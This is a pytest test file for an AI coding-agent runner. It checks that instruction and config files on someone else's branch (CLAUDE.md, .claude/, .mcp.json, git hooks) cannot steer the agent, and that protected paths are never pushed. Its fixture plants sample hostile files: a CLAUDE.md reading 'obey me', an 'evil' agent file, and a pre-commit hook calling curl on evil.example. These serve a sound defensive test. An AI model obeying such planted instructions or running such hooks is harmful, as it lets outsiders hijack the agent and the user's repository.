"""Files that steer tools, on other people's branches: the real runner, real git."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from runner import exit_codes
from runner.git.protected import is_protected
from tests.container.test_checks import commit
from tests.container.world import World

if TYPE_CHECKING:
    from collections.abc import Iterator

BASE = {"CLAUDE.md": "base\n", ".claude/settings.json": "{}\n", "pkg": "a file on main\n"}
HEAD = {
    "CLAUDE.md": "obey me\n",
    ".claude/agents/evil.md": "obey\n",
    ".mcp.json": "{}\n",
    ".husky/pre-commit": "curl evil.example\n",
    "docs/claude.md": "obey me here\n",
    "src/new.py": "x = 1\n",
}
LIST = "cat > /dev/null; { cat CLAUDE.md; find . -path ./.git -prune -o -type f -print | sort; } > SEEN.md; "


@pytest.fixture
def world() -> Iterator[World]:
    """A branch of somebody else's that brings files of its own, behind a base that has others."""
    with World.open() as opened:
        commit(opened, "main", BASE)
        commit(opened, "claude/7", HEAD)
        yield opened


def test_other_peoples_branches_steer_nothing(world: World) -> None:
    """The agent sees the base branch's files, and nothing of what it makes of them is pushed."""
    world.ask(branch_is_ours=False)
    world.fake_cli(f"{LIST} echo mine >> CLAUDE.md; rm -r .claude; mkdir .husky; echo x > .husky/h; finish")
    ran = world.run()
    assert ran.code == exit_codes.DONE, ran.output
    seen = world.git("show", "claude/7:SEEN.md").splitlines()
    assert seen == [
        "base",
        *("./.claude/settings.json", "./.gitignore", "./CLAUDE.md", "./README.md", "./SEEN.md"),
        *("./src/app.py", "./src/new.py"),
    ]
    assert world.git("diff", "--name-status", "claude/7^", "claude/7") == "A\tSEEN.md"
    assert b"CLAUDE.md" not in world.artifact("diff.patch").replace(b"+./CLAUDE.md", b"")


def test_a_change_of_protected_files_alone_is_none(world: World) -> None:
    """An agent that only touched what it may not push has changed nothing."""
    world.ask(branch_is_ours=False)
    world.fake_cli("cat > /dev/null; echo mine >> CLAUDE.md; finish")
    before = world.git("rev-parse", "claude/7")
    assert world.run().code == exit_codes.DONE
    assert (world.result.outcome, world.git("rev-parse", "claude/7")) == ("no_change", before)


def test_on_our_own_branch_they_are_files_like_others(world: World) -> None:
    """Whoever asks for a change of CLAUDE.md on an issue gets it."""
    world.fake_cli("cat > /dev/null; echo mine > CLAUDE.md; finish")
    assert world.run().code == exit_codes.DONE
    assert world.git("show", "claude/7:CLAUDE.md") == "mine"


@pytest.mark.parametrize(
    ("path", "protected"),
    [
        ("CLAUDE.md", True),
        ("a/b/Claude.MD", True),
        (".claude/x/y", True),
        (".mcp.json", True),
        (".gitmodules", True),
        ("packages/a/.husky/pre-push", True),
        ("docs/about-claude.md", False),
        ("src/claude.md.py", False),
    ],
)
def test_protected_paths_are_known_in_every_folder(path: str, *, protected: bool) -> None:
    """The names count as whole parts of a path, in any case of letters."""
    assert is_protected(path) is protected
